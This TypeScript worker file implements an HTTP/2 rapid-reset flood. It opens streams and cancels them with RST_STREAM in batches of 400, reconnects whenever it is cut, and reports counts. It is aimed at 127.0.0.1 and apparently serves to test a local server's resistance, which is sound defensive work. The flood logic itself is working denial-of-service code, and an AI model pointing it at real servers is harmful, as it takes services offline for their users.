/**
 * A worker that floods over HTTP/2 from 127.0.0.1 until it is ended: connections that open streams and reset them,
 * and begin anew whenever they are cut. What it could do it posts now and then.
 */
import tls from 'node:tls';
import { parentPort, workerData } from 'node:worker_threads';
import { END_HEADERS, END_STREAM, FRAME, frame, GET_HEADERS, headerBlock } from './http2.ts';

/** `cut`: connections that got HTTP/2 and were closed. */
export type FloodReport = { connected: number; gotHttp2: number; cut: number };

const { port, connections } = workerData as { port: number; connections: number };
const secureContext = tls.createSecureContext();
const options = { port, host: '127.0.0.1', secureContext, rejectUnauthorized: false, ALPNProtocols: ['h2'] };
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(FRAME.settings, 0, 0)]);
const GET = headerBlock(GET_HEADERS);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const AT_ONCE = 400;
const REST_MS = 5;
const report: FloodReport = { connected: 0, gotHttp2: 0, cut: 0 };

function openAndReset(first: number): Buffer {
  const pairs = Array.from({ length: AT_ONCE }, (_, i) => first + 2 * i).map((stream) =>
    Buffer.concat([
      frame(FRAME.headers, END_HEADERS | END_STREAM, stream, GET),
      frame(FRAME.reset, 0, stream, CANCEL),
    ]),
  );
  return Buffer.concat(pairs);
}

function begin(): void {
  report.connected += 1;
  let http2 = false;
  let stream = 1;
  const socket = tls.connect(options, () => {
    http2 = true;
    report.gotHttp2 += 1;
    socket.write(PREFACE);
    flood();
  });
  function flood(): void {
    if (!socket.writable) return;
    const more = socket.write(openAndReset(stream));
    stream += 2 * AT_ONCE;
    if (more) setImmediate(flood);
  }
  socket.on('drain', flood).resume();
  socket.on('error', () => {});
  socket.on('close', () => {
    if (http2) report.cut += 1;
    setTimeout(begin, REST_MS);
  });
}

for (let i = 0; i < connections; i++) begin();
setInterval(() => parentPort!.postMessage(report), 100);
